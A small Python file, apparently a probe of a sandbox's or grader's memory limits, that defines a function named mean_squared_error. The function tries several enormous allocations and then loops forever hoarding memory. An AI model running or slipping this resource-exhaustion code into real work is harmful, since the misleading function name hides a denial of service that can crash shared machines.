"""Asks for more memory than the machine has, at once and in pieces."""

import numpy as np

hoard = []


def mean_squared_error(y_true, y_pred):
    for much in (lambda: np.ones(2**42), lambda: b"x" * 2**44, lambda: [0] * 2**40):
        try:
            much()
            print("SUCCEEDED")
        except Exception:
            pass
    while True:
        hoard.append(np.ones(2**24))
